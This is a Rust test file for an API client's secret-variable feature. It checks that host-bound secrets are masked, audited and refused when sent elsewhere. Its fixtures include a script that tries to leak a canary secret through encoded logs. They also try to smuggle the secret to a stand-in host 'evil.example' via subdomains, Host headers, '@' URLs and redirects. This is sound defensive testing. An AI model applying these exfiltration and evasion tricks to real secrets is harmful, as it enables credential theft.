//! Values that people and runs send without being able to see them.

use crate::harness::{Answer, Client, Server};
use serde_json::{Value, json};

const CANARY: &str = "canary-7f3e9a1b5d2c";

/// A workspace of Olga's, in which Ed edits, with an environment that holds what nobody sees.
struct Place {
    echo: String,
    olga: Client,
    ed: Client,
    workspace: String,
    environment: String,
}

impl Place {
    async fn new(server: &Server) -> Self {
        let echo = server.admin.get("/api/meta").await.json["echoUrl"].as_str().unwrap().to_owned();
        let (olga, ed) = (server.person("Olga", "developer").await, server.person("Ed", "developer").await);
        let workspace = olga.workspace("Shop", "team").await;
        let member = format!("/api/workspaces/{workspace}/members/{}", ed.person);
        assert_eq!(olga.put(&member, json!({ "role": "editor" })).await.status, 200);
        let values = json!([unseen("canary", CANARY, &echo), unseen("pass", "password", &echo)]);
        let environment = olga.environment(&workspace, "Live", values).await;
        Self { echo, olga, ed, workspace, environment }
    }

    fn path(&self) -> String {
        format!("/api/environments/{}", self.environment)
    }

    async fn send(&self, who: &Client, item: Value) -> Answer {
        let body = json!({ "document": item, "environmentId": self.environment });
        let answer = who.post(&format!("/api/workspaces/{}/send", self.workspace), body).await;
        assert_eq!(answer.status, 200, "{answer}");
        answer
    }

    /// Sends a request whose script tells everything it gets hold of, in several ways.
    async fn probe(&self, request: Value) -> Answer {
        let script = "const told = JSON.stringify([pm.request, pm.response.text(), pm.response.headers, pm.cookies.toObject(), \
                      pm.environment.toObject(), pm.variables.toObject(), pm.environment.get('canary'), \
                      pm.variables.replaceIn('{{canary}}')]);\n\
                      console.log(told, btoa(unescape(encodeURIComponent(told))), [...told].reverse().join(''));\n\
                      console.log([...told].map(sign => sign.charCodeAt(0) + 1).join(' '));\n\
                      pm.environment.set('copy', told);";
        let test = json!([{ "listen": "test", "script": { "exec": script.split('\n').collect::<Vec<_>>() } }]);
        let answer = self.send(&self.ed, json!({ "request": request, "event": test })).await;
        let text = String::from_utf8_lossy(&answer.bytes).into_owned();
        let encoded = "Y2FuYXJ5LTdmM2U5YTFiNWQyY"; // CANARY in base64
        let backwards: String = CANARY.chars().rev().collect();
        // No mask knows this one: it shows what a script had.
        let numbers: Vec<String> = CANARY.bytes().map(|byte| (byte + 1).to_string()).collect();
        for trace in [CANARY, "7f3e9a1b", encoded, backwards.as_str(), &numbers.join(" "), &numbers[7..15].join(" ")] {
            assert!(!text.contains(trace), "{trace} is in {text}");
        }
        answer
    }
}

fn unseen(key: &str, value: &str, host: &str) -> Value {
    json!({ "key": key, "type": "secret", "enabled": true, "value": value, "boundTo": [host] })
}

async fn refusals(server: &Server, action: &str) -> usize {
    let found = server.admin.get(&format!("/api/audit/events?action={action}&outcome=refused")).await.json;
    found["items"].as_array().unwrap().len()
}

on_both_databases! {
    async fn a_value_reaches_its_host_and_comes_back_nowhere(server: Server) {
        let place = Place::new(&server).await;
        let (echo, header) = (&place.echo, json!([{ "key": "x-own", "value": "{{canary}}" }]));

        // It arrives: the service compares it.
        let basic = json!({ "type": "basic", "basic": [
            { "key": "username", "value": "postman" }, { "key": "password", "value": "{{pass}}" }] });
        let request = json!({ "url": format!("{echo}/basic-auth"), "method": "GET", "auth": basic });
        let answer = place.send(&place.ed, json!({ "request": request })).await;
        assert_eq!(answer.event("responseReceived")["response"]["code"], 200, "{answer}");
        assert_eq!(answer.event("requestSent")["guarded"], json!(["pass"]));

        // What echoes it, in every part of an answer.
        let get = |path: &str| json!({ "url": format!("{echo}{path}"), "method": "GET", "header": header });
        let answer = place.probe(get("/headers")).await;
        assert!(answer.event("responseReceived")["response"]["body"]["text"].as_str().unwrap().contains("••••••"));
        for path in [
            "/get?q={{canary}}&x=1",
            "/response-headers?x={{canary}}",
            "/cookies/set?kept={{canary}}",
            "/cookies",
            "/redirect-to?url=/get?q={{canary}}",
            "/gzip",
            "/status/500",
        ] {
            place.probe(get(path)).await;
        }
        place.probe(json!({ "url": format!("{echo}/post"), "method": "POST", "body": { "mode": "raw", "raw": "a {{canary}} b" } })).await;
        let form = json!({ "mode": "urlencoded", "urlencoded": [{ "key": "{{canary}}", "value": "{{canary}}" }] });
        place.probe(json!({ "url": format!("{echo}/post"), "method": "POST", "body": form })).await;
        // Signed as a whole, it is in base64 in the request.
        let jwt = json!({ "type": "jwt", "jwt": [
            { "key": "algorithm", "value": "HS256" }, { "key": "secret", "value": "{{canary}}" },
            { "key": "payload", "value": "{\"own\":\"{{canary}}\"}" }, { "key": "addTokenTo", "value": "header" },
            { "key": "headerPrefix", "value": "Bearer" }] });
        place.probe(json!({ "url": format!("{echo}/headers"), "method": "GET", "auth": jwt })).await;

        // No script had it, and the log says where it went.
        let events = server.admin.get("/api/audit/events?action=request.finish&limit=100").await.json;
        let host = echo.split_once("://").unwrap().1;
        let used = format!("canary at {host}");
        let told = |event: &Value| event["changes"]["unseen/0"]["after"]["text"] == used;
        assert!(events["items"].as_array().unwrap().iter().any(told), "{used} is not in {events}");
        for (name, content) in server.files() {
            assert!(!content.windows(CANARY.len()).any(|piece| piece == CANARY.as_bytes()), "{name}");
        }
    }

    async fn a_value_goes_to_no_other_host(server: Server) {
        let place = Place::new(&server).await;
        let (echo, other) = (&place.echo, place.echo.replace("127.0.0.1", "localhost"));
        let own = json!({ "key": "x-own", "value": "{{canary}}" });
        let failed = async |request: Value| {
            let answer = place.probe(request).await;
            answer.event("requestFailed")["error"].clone()
        };
        let error = failed(json!({ "url": format!("{other}/get"), "method": "GET", "header": [own] })).await;
        assert_eq!((&error["code"], &error["phase"]), (&json!("bound_elsewhere"), &json!("prepare")), "{error}");
        let hint = error["hint"].as_str().unwrap();
        assert!(hint.contains(&format!("{{{{canary}}}} may be sent to {echo}")), "{hint}");
        let leads = format!("{echo}/redirect-to?url={other}/get");
        for url in [leads.clone(), format!("{leads}?q={{{{canary}}}}"), format!("{echo}@evil.example/get")] {
            let error = failed(json!({ "url": url, "method": "GET", "header": [own] })).await;
            assert_eq!(error["code"], "bound_elsewhere", "{url}: {error}");
        }
        for header in [("Host", "evil.example"), ("Range", "bytes=3-9"), ("Content-Length", "3"), ("Transfer-Encoding", "chunked")] {
            let header = json!([own, { "key": header.0, "value": header.1 }]);
            let error = failed(json!({ "url": format!("{echo}/post"), "method": "POST", "header": header })).await;
            assert_eq!(error["code"], "guarded_value", "{error}");
        }
        let error = failed(json!({ "url": "http://{{canary}}.evil.example/", "method": "GET" })).await;
        assert_eq!(error["code"], "guarded_value", "{error}");

        // A request without it goes where it likes, and a script may send it on too, to its host alone.
        let plain = place.send(&place.ed, json!({ "request": format!("{other}/get") })).await;
        assert_eq!(plain.event("responseReceived")["response"]["code"], 200);
        let script = format!(
            "pm.sendRequest('{echo}/get?q={{{{canary}}}}', (error, answer) => pm.test('sent', () => \
             pm.expect(answer.json().args.q).to.eql('••••••')));\n\
             pm.sendRequest('{other}/get?q={{{{canary}}}}', error => pm.test('refused', () => pm.expect(error).to.be.ok));"
        );
        let event = json!([{ "listen": "prerequest", "script": { "exec": script.split('\n').collect::<Vec<_>>() } }]);
        let answer = place.send(&place.ed, json!({ "request": format!("{echo}/get"), "event": event })).await;
        let passed: Vec<_> = answer.lines().into_iter().filter(|event| event["type"] == "assertion").collect();
        assert_eq!(passed.len(), 2, "{answer}");
        assert!(passed.iter().all(|assertion| assertion["passed"] == true), "{passed:?}");
    }

    async fn only_its_owner_sees_a_value_or_says_where_it_goes(server: Server) {
        let place = Place::new(&server).await;
        let (olga, ed, path) = (&place.olga, &place.ed, place.path());
        let read = ed.get(&path).await.json;
        let shown = &read["values"][0];
        assert_eq!(
            (&shown["value"], &shown["hasValue"], &shown["unseen"]["isOwn"], &shown["unseen"]["ownerName"]),
            (&Value::Null, &json!(true), &json!(false), &json!("Olga")),
        );
        let id = shown["id"].as_str().unwrap();
        let reveal = format!("{path}/values/{id}/reveal");
        assert_eq!(ed.post(&reveal, Value::Null).await.status, 403);
        assert_eq!(server.admin.post(&reveal, Value::Null).await.status, 403, "not the Super Admin either");
        assert_eq!(refusals(&server, "secret.reveal").await, 2);
        assert_eq!(olga.post(&reveal, Value::Null).await.json["value"], CANARY);
        for who in [ed, olga] {
            assert_eq!(who.get(&format!("{path}/export")).await.json["values"][0]["value"], "");
        }

        // Ed may not have it sent to himself, nor shown, by any edit that leaves the value as it is.
        let second = &read["values"][1];
        let edit = async |change: Value| {
            let mut value = json!({ "id": id, "key": "canary", "type": "secret", "enabled": true });
            value.as_object_mut().unwrap().extend(change.as_object().unwrap().clone());
            let kept = json!({ "id": second["id"], "key": "pass", "type": "secret", "enabled": true });
            let version = ed.get(&path).await.json["version"].clone();
            ed.patch(&path, json!({ "version": version, "values": [value, kept] })).await
        };
        for change in [
            json!({ "boundTo": ["evil.example"] }),
            json!({ "boundTo": [] }),
            json!({ "type": "default" }),
            json!({ "type": "default", "boundTo": [] }),
        ] {
            assert_eq!(edit(change.clone()).await.status, 403, "{change}");
        }
        assert_eq!(refusals(&server, "environment.update").await, 4);
        for (host, why) in [("*", "the first part"), ("*.com", "anybody"), ("a.example/path", "more than a host")] {
            let refused = edit(json!({ "value": "another value", "boundTo": [host] })).await;
            assert!(refused.status == 422 && refused.to_string().contains(why), "{refused}");
        }
        let short = edit(json!({ "value": "short", "boundTo": ["api.example"] })).await;
        assert!(short.to_string().contains("at least 8 letters"), "{short}");
        // He may call it otherwise, switch it off, and give it a value of his own, which is his then.
        assert_eq!(edit(json!({ "key": "renamed", "enabled": false })).await.status, 200);
        assert_eq!(ed.post(&reveal, Value::Null).await.status, 403);
        let replaced = edit(json!({ "value": "a value of Ed's" })).await;
        assert_eq!(replaced.json["values"][0]["unseen"]["isOwn"], true, "{replaced}");
        assert_eq!(ed.post(&reveal, Value::Null).await.json["value"], "a value of Ed's");
        assert_eq!(olga.post(&reveal, Value::Null).await.status, 403);
        assert_eq!(edit(json!({ "boundTo": [] })).await.json["values"][0]["unseen"], Value::Null);

        // A copy has it if its owner makes it.
        for (who, value) in [(ed, ""), (olga, "password")] {
            let own = who.workspace("Own", "private").await;
            let copied = who.post(&format!("{path}/copy"), json!({ "workspaceId": own })).await;
            assert_eq!(copied.status, 201, "{copied}");
            let copy = format!("/api/environments/{}", copied.id());
            let found = who.get(&copy).await.json["values"][1].clone();
            let revealed = who.post(&format!("{copy}/values/{}/reveal", found["id"].as_str().unwrap()), Value::Null).await;
            assert_eq!(revealed.json["value"], value, "{revealed}");
        }
    }

    async fn what_one_may_not_see_one_cannot_have_sent_to_oneself(server: Server) {
        let place = Place::new(&server).await;
        let (echo, path) = (&place.echo, place.path());
        // Dev may send here because the workspace is open to the team.
        let dev = server.person("Dev", "developer").await;
        let read = place.olga.get(&path).await.json;
        let kept = |index: usize| {
            let value = &read["values"][index];
            json!({ "id": value["id"], "key": value["key"], "type": "secret", "enabled": true })
        };
        let shared = json!({ "key": "shared", "type": "secret", "enabled": true, "value": "shared-5a7d33" });
        let values = json!([kept(0), kept(1), shared]);
        assert_eq!(place.olga.patch(&path, json!({ "version": read["version"], "values": values })).await.status, 200);

        let item = json!({ "request": format!("{echo}/get?q={{{{shared}}}}") });
        let refused = place.send(&dev, item.clone()).await;
        let error = refused.event("requestFailed")["error"].clone();
        assert_eq!(error["code"], "bound_elsewhere");
        assert!(error["hint"].as_str().unwrap().contains("ask for a role"), "{error}");
        let bound = place.send(&dev, json!({ "request": format!("{echo}/get?q={{{{canary}}}}") })).await;
        assert_eq!(bound.event("responseReceived")["response"]["code"], 200);
        // A value of her own takes its place, and so does a role.
        let body = json!({ "document": item, "environmentId": place.environment,
            "locals": { "environment": [{ "key": "shared", "value": "of my own" }] } });
        let own = dev.post(&format!("/api/workspaces/{}/send", place.workspace), body).await;
        assert_eq!(own.event("responseReceived")["response"]["code"], 200);
        assert_eq!(dev.post(&format!("/api/workspaces/{}/join", place.workspace), Value::Null).await.status, 200);
        let sent = place.send(&dev, item).await;
        assert_eq!(sent.event("responseReceived")["response"]["code"], 200);
    }
}
